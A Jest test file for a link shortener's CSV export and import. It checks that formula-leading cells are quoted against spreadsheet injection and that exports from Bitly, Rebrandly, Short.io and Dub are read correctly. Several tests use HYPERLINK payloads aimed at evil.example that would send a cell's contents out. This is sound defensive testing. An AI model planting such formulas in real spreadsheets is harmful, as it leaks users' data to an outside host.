import { LINK_VISIT_FIELD_NAMES, type LinkVisitField } from './link-visit-fields';
import { parse } from 'csv-parse/sync';
import { ValidationFailedException } from '../common/exceptions';
import {
  EXPORT_FORMATS,
  LINK_CSV_COLUMNS,
  LINK_CSV_HEADER,
  linkCsvLines,
  linksFromCsv,
  type LinkExportRow,
} from './link-csv';

/** What a spreadsheet reads as the start of a formula: OWASP's list, and the full-width forms some read alike. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

function row(overrides: Partial<LinkExportRow>): LinkExportRow {
  return {
    id: 7,
    alias: 'promo',
    short_url: 'http://localhost:3000/promo',
    url: 'https://example.com/',
    title: 'A title',
    domain_id: 1,
    space_id: null,
    pixel_ids: null,
    targets_type: null,
    targets: null,
    sensitive_content: false,
    privacy: 0,
    active_period_start_at: null,
    active_period_end_at: null,
    clicks_limit: null,
    expiration_url: null,
    disabled: false,
    clicks: 0,
    created_at: new Date('2026-01-02T03:04:05Z'),
    tags: [],
    archived: false,
    health: 'unknown',
    ...(Object.fromEntries(LINK_VISIT_FIELD_NAMES.map((name) => [name, null])) as Record<
      LinkVisitField,
      null
    >),
    ...overrides,
  };
}

/** The cells of CSV lines, as a spreadsheet or a parser reads them. */
function cells(text: string): string[][] {
  return parse(text, { relax_column_count: true });
}

describe('linkCsvLines', () => {
  it.each(FORMULA_STARTS)('writes a text cell starting with %j after a quote, the cell quoted', (start) => {
    const text = `${start}HYPERLINK("https://evil.example/?"&A1,"Click")`;
    const line = linkCsvLines([
      row({ alias: `${start}alias`, url: text, title: text, expiration_url: text, short_url: text }),
    ]);
    const [written] = cells(line);
    const [, alias, shortUrl, url, title] = written;
    expect([alias, shortUrl, url, title, written[15]]).toEqual([
      `'${start}alias`,
      `'${text}`,
      `'${text}`,
      `'${text}`,
      `'${text}`,
    ]);
    // Quoted, so that no reader takes the cell apart at the tab or carriage return.
    expect(line).toContain(`"'${start}alias"`);
  });

  it('leaves the targets cell, JSON that starts with a bracket, as it is', () => {
    const line = linkCsvLines([row({ targets: [{ value: '=1+1' }] })]);
    expect(cells(line)[0][9]).toBe('[{"value":"=1+1"}]');
  });

  it('leaves numbers and the cells it makes itself as they are, a negative number too', () => {
    const line = linkCsvLines([row({ id: -5, clicks_limit: -1, privacy: -2, clicks: -3, space_id: -4 })]);
    const written = cells(line)[0];
    expect([written[0], written[6], written[11], written[14], written[17]]).toEqual([
      '-5',
      '-4',
      '-2',
      '-1',
      '-3',
    ]);
    expect(line.startsWith('-5,')).toBe(true);
  });

  it('leaves text that only contains a formula character, or starts with another one, unchanged', () => {
    const titles = ['Sale = 50% off', 'a+b', "'quoted", ' =spaced', '(1)', '"quoted"'];
    const written = cells(linkCsvLines(titles.map((title) => row({ title }))));
    expect(written.map((line) => line[4])).toEqual(titles);
  });
  it('quotes a cell holding a separator of another locale, so that no formula starts a cell there', () => {
    const line = linkCsvLines([row({ title: 'Sale;=HYPERLINK("https://evil.example/")' })]);
    expect(line).toContain(',"Sale;=HYPERLINK(""https://evil.example/"")",');
  });
});

describe('linksFromCsv', () => {
  it.each(FORMULA_STARTS)('reads back what export wrote for a cell starting with %j', (start) => {
    const text = `${start}HYPERLINK("https://evil.example/","x")`;
    const exported = LINK_CSV_HEADER + linkCsvLines([row({ alias: `${start}a`, title: text, url: text })]);
    const [link] = linksFromCsv(Buffer.from(exported)).bodies;
    expect({ alias: link.alias, title: link.title, url: link.url }).toEqual({
      alias: `${start}a`,
      title: text,
      url: text,
    });
  });

  it('reads back text that starts with quotes before a formula character, and quotes alone', () => {
    const titles = ["'=1+1", "''-2", "'quoted", "''", 'plain'];
    const exported = LINK_CSV_HEADER + linkCsvLines(titles.map((title) => row({ title })));
    expect(linksFromCsv(Buffer.from(exported)).bodies.map((link) => link.title)).toEqual(titles);
  });

  it('takes a password column as it was written: export never writes one, so it never added a quote', () => {
    const [link] = linksFromCsv(
      Buffer.from("url,password,title\nhttps://example.com/,'=secret,'=title\n"),
    ).bodies;
    expect(link).toEqual({ url: 'https://example.com/', password: "'=secret", title: '=title' });
  });

  it.each([
    ['one row a line', 'url\na\nb\nc\n', [2, 3, 4]],
    ['empty lines and blank ones between rows', 'url\n\na\n  \n\nb', [3, 6]],
    ['a quoted cell over several lines', 'url,title\na,"one\ntwo\n\nthree"\nb,x\n', [2, 6]],
    ['CRLF, inside quotes too', 'url,title\r\na,"one\r\ntwo"\r\n\r\nb,x\r\n', [2, 5]],
    ['a byte order mark', '\ufeffurl\r\na\r\nb', [2, 3]],
    ['a header over two lines', '"url","ti\ntle"\na,b\n', [3]],
  ])('counts the line each row starts on, the header being line 1: %s', (_case, text, lines) => {
    expect(linksFromCsv(Buffer.from(text)).lines).toEqual(lines);
  });
});

describe('linksFromCsv, reading the export of another shortener', () => {
  const bodies = (text: string) => linksFromCsv(Buffer.from(text)).bodies;

  /** The 422 on `file` that a file without a url column gets, or undefined when the file is read. */
  function fileRefusal(text: string): unknown {
    try {
      bodies(text);
      return undefined;
    } catch (error) {
      return error instanceof ValidationFailedException ? error.fields : error;
    }
  }

  it.each([
    [
      'Bitly, from its Links → Export',
      'Title,Link,Custom Link,Destination URL,Tags,Date Created,Engagements\n' +
        '"Spring sale, 20% off",https://bit.ly/3xYzAbc,https://go.example.com/spring,' +
        'https://shop.example.com/sale?a=1,"promo, spring",2024-03-01 10:00:00,12\n' +
        'Docs,https://bit.ly/4dEfGhi,,"https://docs.example.com/a,b",,2024-03-02 11:00:00,0\n',
      [
        {
          url: 'https://shop.example.com/sale?a=1',
          alias: 'spring',
          title: 'Spring sale, 20% off',
          tags: ['promo', 'spring'],
        },
        { url: 'https://docs.example.com/a,b', alias: '4dEfGhi', title: 'Docs' },
      ],
    ],
    [
      'Bitly, by its API’s names',
      'long_url,custom_bitlink,title,archived,tags,created_at\n' +
        'https://shop.example.com/sale,bit.ly/spring,"Sale, spring",false,promo,2024-03-01T10:00:00+0000\n' +
        '"https://docs.example.com/a,b",,Docs,false,,2024-03-02T11:00:00+0000\n',
      [
        { url: 'https://shop.example.com/sale', alias: 'spring', title: 'Sale, spring', tags: ['promo'] },
        { url: 'https://docs.example.com/a,b', title: 'Docs' },
      ],
    ],
    [
      'Rebrandly',
      'id,title,slashtag,destination,shortUrl,domain.fullName,createdAt,updatedAt,clicks\n' +
        'ffs24cc5,"Burn $1M, the new way",burn10M,https://www.wired.com/2016/07/ferrari/,rebrand.ly/burn10M,' +
        'rebrand.ly,2016-07-13T10:54:12.000Z,2016-07-13T10:54:12.000Z,42\n' +
        '22ff9c5c,Dropbox,myvid,"https://www.dropbox.com/s/a,b",rebrand.ly/myvid,rebrand.ly,' +
        '2016-07-06T18:06:49.000Z,2016-07-06T18:06:49.000Z,0\n',
      [
        { url: 'https://www.wired.com/2016/07/ferrari/', alias: 'burn10M', title: 'Burn $1M, the new way' },
        { url: 'https://www.dropbox.com/s/a,b', alias: 'myvid', title: 'Dropbox' },
      ],
    ],
    [
      'Short.io',
      'idString,originalURL,path,title,shortURL,secureShortURL,tags,createdAt\n' +
        'lnk_1,https://shop.example.com/sale,spring,"Sale, spring",http://go.example.com/spring,' +
        'https://go.example.com/spring,"promo,spring",2024-03-01T10:00:00.000Z\n' +
        'lnk_2,https://docs.example.com/,docs,,http://go.example.com/docs,https://go.example.com/docs,,' +
        '2024-03-02T11:00:00.000Z\n',
      [
        {
          url: 'https://shop.example.com/sale',
          alias: 'spring',
          title: 'Sale, spring',
          tags: ['promo', 'spring'],
        },
        { url: 'https://docs.example.com/', alias: 'docs' },
      ],
    ],
    [
      'Dub, by its column labels',
      'Short link,Destination URL,Clicks,Created at,Tags\n' +
        'https://dub.sh/spring,https://shop.example.com/sale,12,2024-03-01T10:00:00.000Z,"promo, spring"\n' +
        'https://go.example.com/docs,"https://docs.example.com/a,b",0,2024-03-02T11:00:00.000Z,\n',
      [
        { url: 'https://shop.example.com/sale', alias: 'spring', tags: ['promo', 'spring'] },
        { url: 'https://docs.example.com/a,b', alias: 'docs' },
      ],
    ],
    [
      'Dub, by its column ids',
      'link,url,clicks,createdAt\n' +
        'https://dub.sh/spring,"https://shop.example.com/sale?a=1,2",12,2024-03-01T10:00:00.000Z\n' +
        'https://go.example.com/docs,https://docs.example.com/,0,2024-03-02T11:00:00.000Z\n',
      [
        { url: 'https://shop.example.com/sale?a=1,2', alias: 'spring' },
        { url: 'https://docs.example.com/', alias: 'docs' },
      ],
    ],
  ])('reads %s: the long URL, the back-half as alias, the title', (_format, text, links) => {
    expect(bodies(text)).toEqual(links);
    expect(linksFromCsv(Buffer.from(text)).lines).toEqual([2, 3]);
  });

  it.each([
    ['a link with a scheme', 'https://bit.ly/3xYzAbc', { alias: '3xYzAbc' }],
    ['a link without one', 'go.example.com/spring', { alias: 'spring' }],
    ['a path of two segments', 'https://go.example.com/spring/sale', { alias: 'spring/sale' }],
    ['a percent-encoded path', 'https://go.example.com/caf%C3%A9', { alias: 'café' }],
    ['the root of a domain: no alias', 'https://dub.sh', {}],
    ['no link: taken as it is, for the alias validator', 'not a link', { alias: 'not a link' }],
  ])('takes the alias from the path of the short link: %s', (_case, shortLink, alias) => {
    expect(bodies(`link,url\n"${shortLink}",https://example.com/\n`)).toEqual([
      { url: 'https://example.com/', ...alias },
    ]);
  });

  it('prefers the custom back-half to the link Bitly made', () => {
    const text =
      'Link,Custom Link,Destination URL\nhttps://bit.ly/3xYzAbc,https://go.example.com/spring,https://a.example/\n';
    expect(bodies(text)).toEqual([{ url: 'https://a.example/', alias: 'spring' }]);
  });

  it('knows a header by its names whatever their case, and the blanks around them', () => {
    expect(bodies(' LONG_URL , Custom_Bitlink ,TITLE\nhttps://a.example/,bit.ly/x,A\n')).toEqual([
      { url: 'https://a.example/', alias: 'x', title: 'A' },
    ]);
  });

  it('takes the cells of another export as written: the quote before a formula is only ours to take off', () => {
    expect(bodies(`long_url,title\nhttps://a.example/,"'=1+1"\n`)).toEqual([
      { url: 'https://a.example/', title: "'=1+1" },
    ]);
  });

  it('refuses a header half like an export, without a url column, with the 422 on file', () => {
    const missing = { file: ['The file must have a url column.'] };
    expect(fileRefusal('Destination URL,Title\nhttps://a.example/,A\n')).toEqual(missing);
    expect(fileRefusal('slashtag,title\nspring,A\n')).toEqual(missing);
    expect(fileRefusal('Short link,Title\nhttps://dub.sh/x,A\n')).toEqual(missing);
  });

  it('reads a header half like an export, with a url column, as ours', () => {
    expect(bodies('url,slashtag,Custom Link,title\nhttps://a.example/,spring,https://bit.ly/x,A\n')).toEqual([
      { url: 'https://a.example/', title: 'A' },
    ]);
  });

  it('reads our own header as ours: each export is known by a column that ours never has', () => {
    const ours = new Set<string>([...LINK_CSV_COLUMNS, 'password', 'redirect_password']);
    for (const { recognisedBy } of EXPORT_FORMATS) {
      for (const columns of recognisedBy) expect(columns.some((column) => !ours.has(column))).toBe(true);
    }
    const exported =
      LINK_CSV_HEADER +
      linkCsvLines([
        row({
          pixel_ids: '3 4',
          targets: [{ value: 'https://x.example/' }],
          tags: ['News', '=sum', 'spring sale'],
          archived: true,
        }),
      ]);
    expect(bodies(exported)).toEqual([
      {
        alias: 'promo',
        url: 'https://example.com/',
        title: 'A title',
        domain_id: '1',
        pixel_ids: ['3', '4'],
        targets: [{ value: 'https://x.example/' }],
        sensitive_content: '0',
        privacy: '0',
        disabled: '0',
        tags: ['News', '=sum', 'spring sale'],
        archived: '1',
      },
    ]);
  });
});
